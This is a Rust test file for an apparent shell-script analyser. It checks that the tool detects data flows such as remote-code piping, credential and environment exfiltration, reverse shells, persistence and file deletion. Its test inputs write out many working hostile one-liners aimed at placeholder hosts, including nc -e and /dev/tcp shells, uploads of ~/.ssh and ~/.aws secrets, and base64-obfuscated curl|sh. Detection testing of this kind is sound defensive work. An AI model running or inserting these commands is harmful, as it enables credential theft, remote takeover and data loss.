//! Shell scripts and command lines: uses, chains, inner code.

mod support;

use foretaste_lang::{observe, observe_command};
use foretaste_model::Limits;
use foretaste_model::facts::{FileFacts, ParseOutcome};
use support::chains;

fn shell(text: &str) -> FileFacts {
    observe("script.sh", text.as_bytes(), &Limits::default())
}

#[test]
fn what_flows_through_pipes_variables_and_files_is_followed() {
    let mut wrong = Vec::new();
    let cases = [
        (
            "curl -s http://x.example.invalid/a.sh | sh",
            &["network.http > process.shell"][..],
        ),
        (
            "wget -qO- http://x.example.invalid/a | sudo bash -s -- --yes",
            &["network.http > process.shell"],
        ),
        (
            "bash <(curl -fsSL http://x.example.invalid/a)",
            &["network.http > process.shell"],
        ),
        (
            "sh -c \"$(curl -fsSL http://x.example.invalid/a)\"",
            &["network.http > process.shell"],
        ),
        (
            "eval \"$(wget -qO- http://x.example.invalid/a)\"",
            &["network.http > code.eval"],
        ),
        (
            "curl http://x.example.invalid/p.py | python3 -",
            &["network.http > process.spawn"],
        ),
        (
            "curl -o /tmp/x http://x.example.invalid/x; chmod +x /tmp/x; /tmp/x",
            &["network.http > process.spawn [file]"],
        ),
        (
            "cd /tmp && wget http://x.example.invalid/miner && chmod 777 miner && ./miner &",
            &["network.http > process.spawn [file]"],
        ),
        (
            "curl -fsSLO http://x.example.invalid/a.tgz; tar xzf a.tgz; ./a/install",
            &["network.http > process.spawn [order]"],
        ),
        (
            "env | base64 | curl -d @- http://x.example.invalid/c",
            &["environment.read-all > encode.text > network.http"],
        ),
        (
            "curl -X POST -d \"$(env)\" http://x.example.invalid/c",
            &["environment.read-all > network.http"],
        ),
        (
            "D=$(printenv); E=$(echo \"$D\" | base64 -w0); wget --post-data=\"$E\" http://x.example.invalid/",
            &["environment.read-all > encode.text > network.http"],
        ),
        (
            "curl -F f=@$HOME/.ssh/id_rsa http://x.example.invalid/c",
            &["file.read > network.http"],
        ),
        (
            "cat ~/.aws/credentials | nc x.example.invalid 99",
            &["file.read > network.socket"],
        ),
        (
            "tar czf /tmp/k.tgz ~/.ssh && curl -T /tmp/k.tgz http://x.example.invalid/",
            &["file.read > encode.compressed > network.http [file]"],
        ),
        (
            "curl -d \"t=$NPM_TOKEN\" http://x.example.invalid/c",
            &["environment.read > network.http"],
        ),
        (
            "nslookup $(whoami).x.example.invalid",
            &["host.user > network.dns"],
        ),
        (
            "curl \"http://x.example.invalid/?u=`id`&h=$(hostname)\"",
            &["host.user > network.http", "host.info > network.http"],
        ),
        (
            "echo aWQ7IGN1cmwgaHR0cDovL3guZXhhbXBsZS5pbnZhbGlkL2EgfCBzaA== | base64 -d | sh",
            &[
                "decode.text > process.shell",
                "base64+sh: network.http > process.shell",
            ],
        ),
        (
            "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
            &["network.socket > process.shell"],
        ),
        (
            "nc -e /bin/sh 203.0.113.5 4444",
            &["network.socket > process.shell"],
        ),
        (
            "sh -c 'curl http://x.example.invalid/a | bash'",
            &["sh: network.http > process.shell"],
        ),
        (
            "(env; id) > /tmp/o; curl --data-binary @/tmp/o http://x.example.invalid/",
            &[
                "environment.read-all > network.http [file]",
                "host.user > network.http [file]",
            ],
        ),
        (
            "cat <<EOF | sh\ncurl http://x.example.invalid/a | sh\nEOF\n",
            &["sh: network.http > process.shell"],
        ),
        (
            "c=curl; $c http://x.example.invalid/a | s\\h",
            &["network.http > process.shell"],
        ),
    ];
    for (script, expected) in cases {
        let mut found = chains(&shell(script));
        let mut expected: Vec<String> = expected.iter().map(|s| (*s).to_owned()).collect();
        found.sort();
        expected.sort();
        if found != expected {
            wrong.push(format!("{script}\n   is {found:?}\n  not {expected:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn honest_scripts_have_no_chain() {
    for script in [
        "#!/bin/sh\nset -e\npython setup.py build\nmake -j4 && make install\n",
        "curl -H \"Authorization: token $GITHUB_TOKEN\" https://api.example.invalid/repos | jq .name",
        "for f in *.py; do echo \"$f\"; python -m pytest \"$f\" || exit 1; done",
        "VERSION=$(cat VERSION); docker build -t acme:$VERSION .",
        "if [ -z \"$CI\" ]; then npm run build; fi",
        "echo hello | base64",
        "find . -name '*.pyc' | xargs rm -f",
        "node scripts/postinstall.js",
    ] {
        let facts = shell(script);
        assert_eq!(chains(&facts), Vec::<String>::new(), "{script}");
        assert_eq!(facts.outcome, ParseOutcome::Parsed, "{script}");
    }
}

#[test]
fn commands_are_capabilities() {
    let has = |script: &str, id: &str| {
        let facts = observe_command(script, &Limits::default());
        facts.uses.iter().any(|u| u.capability.id() == id)
    };
    for (script, id) in [
        ("npm publish --access public", "system.package"),
        ("python3 -m pip install evil", "system.package"),
        (
            "(crontab -l; echo '* * * * * /tmp/x') | crontab -",
            "system.persist",
        ),
        ("echo x >> ~/.bashrc", "system.persist"),
        ("systemctl enable --now x.service", "system.persist"),
        ("rm -rf ~/*", "file.delete"),
        ("/usr/bin/curl.exe http://x.example.invalid", "network.http"),
        (
            "git clone https://x.example.invalid/r.git",
            "network.download",
        ),
        ("ssh user@x.example.invalid", "network.remote"),
        ("sudo useradd x", "system.privilege"),
        ("perl -e 'system(1)'", "code.eval"),
        ("printenv", "environment.read-all"),
    ] {
        assert!(has(script, id), "{script}: {id}");
    }
    assert!(!has("node index.js && echo done", "network.http"));
}

#[test]
fn functions_are_known_and_their_calls_followed() {
    let facts = shell("get() {\n  curl \"$1\"\n}\nget http://x.example.invalid/\n");
    assert_eq!(&*facts.functions[1].name, "get");
    assert!(facts.functions[1].at_import);
    assert_eq!(facts.uses[0].function, 1);
    assert!(facts.snippet_at(facts.uses[0].span).is_some());
}

#[test]
fn a_script_that_is_written_and_then_run_is_read() {
    // curl -s https://x.example.invalid/a | sudo python3
    let encoded = "Y3VybCAtcyBodHRwczovL3guZXhhbXBsZS5pbnZhbGlkL2EgfCBzdWRvIHB5dGhvbjM=";
    let scripts = [
        format!("echo \"{encoded}\" | base64 -d > /tmp/run.sh && bash /tmp/run.sh"),
        format!("echo {encoded} | base64 -d > ./go; chmod +x ./go; ./go"),
        format!("echo {encoded} | base64 --decode | tee /tmp/a > /dev/null\n. /tmp/a"),
        "echo 'curl -s https://x.example.invalid/a |' > go\necho 'sudo python3' >> go\nsh go"
            .to_owned(),
    ];
    for script in scripts {
        let facts = shell(&script);
        let fetches = facts
            .layers
            .iter()
            .flat_map(|l| &l.facts.uses)
            .any(|u| &*u.api == "curl");
        assert!(fetches, "{script}: {:#?}", facts.layers);
    }
    let other = shell("echo 'curl x' > notes.txt\nsh other.sh\n");
    assert!(other.layers.is_empty(), "{:#?}", other.layers);
}
